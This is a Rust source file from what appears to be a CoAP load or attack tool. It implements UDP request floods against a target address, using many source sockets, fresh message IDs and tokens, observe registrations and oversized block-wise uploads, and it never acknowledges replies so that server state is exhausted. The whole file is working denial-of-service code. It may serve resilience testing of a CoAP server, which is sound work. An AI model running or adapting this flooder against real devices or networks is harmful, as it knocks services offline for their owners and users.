//! CoAP floods over UDP: requests from many source ports (and addresses), each with a
//! new message ID and token, never acknowledging what comes back.

use crate::{count, AttackCtx, Mode, Pacer, Rng};
use cobalt_proto::message::{encode, opt, BlockValue, Code, Message, MessageType, Token};
use std::net::{IpAddr, Ipv6Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;
use tokio::net::UdpSocket;

/// Size of the body an upload flood announces and of the block it sends.
const UPLOAD_BLOCK: usize = 1024;

/// Runs a datagram flood until `ctx.stop`.
pub async fn flood(ctx: AttackCtx, mode: Mode) {
    let sockets = match bind_sockets(&ctx) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("flood: cannot bind the attacker's sockets: {e}");
            count(&ctx.counters, "bind failed", 1);
            return;
        }
    };
    let mut readers = Vec::new();
    for s in &sockets {
        let (s, counters) = (s.clone(), ctx.counters.clone());
        readers.push(tokio::spawn(async move {
            let mut buf = [0u8; 2048];
            while let Ok((n, _)) = s.recv_from(&mut buf).await {
                count(&counters, &answer_name(&buf[..n]), 1);
            }
        }));
    }
    let mut rng = Rng::new(mode as u64);
    let mut mids: Vec<u16> = sockets.iter().map(|_| rng.next_u64() as u16).collect();
    let mut pacer = Pacer::new(ctx.rate);
    let mut next = 0usize;
    let (mut sent, mut dropped) = (0u64, 0u64);
    let mut tick = tokio::time::interval(Duration::from_millis(1));
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Skip);
    while !ctx.stopped() {
        tick.tick().await;
        for _ in 0..pacer.due(u64::from(ctx.rate / 10 + 1)) {
            let i = next % sockets.len();
            next += 1;
            mids[i] = mids[i].wrapping_add(1);
            let bytes = encode(&request(mode, &ctx.path, mids[i], &mut rng));
            match sockets[i].try_send_to(&bytes, ctx.target) {
                Ok(_) => sent += 1,
                Err(_) => dropped += 1,
            }
        }
    }
    count(&ctx.counters, "sent", sent);
    count(&ctx.counters, "send failed (local buffer full)", dropped);
    // Answers still in flight are counted for a moment, then the sockets close.
    tokio::time::sleep(Duration::from_millis(300)).await;
    for r in readers {
        r.abort();
    }
}

/// `ports_per_ip` sockets on each source address (the target's family; IPv6 targets
/// are attacked from `::1`).
fn bind_sockets(ctx: &AttackCtx) -> std::io::Result<Vec<Arc<UdpSocket>>> {
    let mut out = Vec::new();
    let ips: Vec<IpAddr> = if ctx.target.is_ipv6() {
        vec![IpAddr::V6(Ipv6Addr::LOCALHOST)]
    } else {
        ctx.sources.clone()
    };
    for ip in ips {
        for _ in 0..ctx.ports_per_ip {
            let s = std::net::UdpSocket::bind(SocketAddr::new(ip, 0))?;
            s.set_nonblocking(true)?;
            out.push(Arc::new(UdpSocket::from_std(s)?));
        }
    }
    Ok(out)
}

/// The request one datagram of the flood carries.
fn request(mode: Mode, target_path: &str, mid: u16, rng: &mut Rng) -> Message {
    let (mtype, code) = match mode {
        Mode::ObserveNon => (MessageType::NonConfirmable, Code::GET),
        Mode::Upload => (MessageType::Confirmable, Code::PUT),
        _ => (MessageType::Confirmable, Code::GET),
    };
    let mut m = Message::new(mtype, code, mid);
    m.token = Token::new(&rng.bytes(4)).unwrap_or(Token::EMPTY);
    let (path, query) = target_path.split_once('?').unwrap_or((target_path, ""));
    m.options.set_uri_path(path);
    if !query.is_empty() {
        m.options.set_uri_query(query);
    }
    match mode {
        Mode::ObserveNon | Mode::ObserveCon => m.options.set_uint(opt::OBSERVE, 0),
        Mode::Upload => {
            if let Some(b) = BlockValue::new(0, true, 6) {
                m.options.set_uint(opt::BLOCK1, b.encode());
            }
            m.options.set_uint(opt::SIZE1, 64 * UPLOAD_BLOCK as u32);
            m.options.set(opt::REQUEST_TAG, rng.bytes(4));
            m.payload = vec![b'x'; UPLOAD_BLOCK];
        }
        _ => {}
    }
    m
}

/// The counter an answer goes to: its code (`answer 2.05`), or the empty message's type.
fn answer_name(d: &[u8]) -> String {
    if d.len() < 4 {
        return "answer (garbage)".into();
    }
    let code = Code(d[1]);
    if code == Code::EMPTY {
        let t = MessageType::from_bits(d[0] >> 4);
        return format!("answer empty {}", t.short_name());
    }
    format!("answer {code}")
}
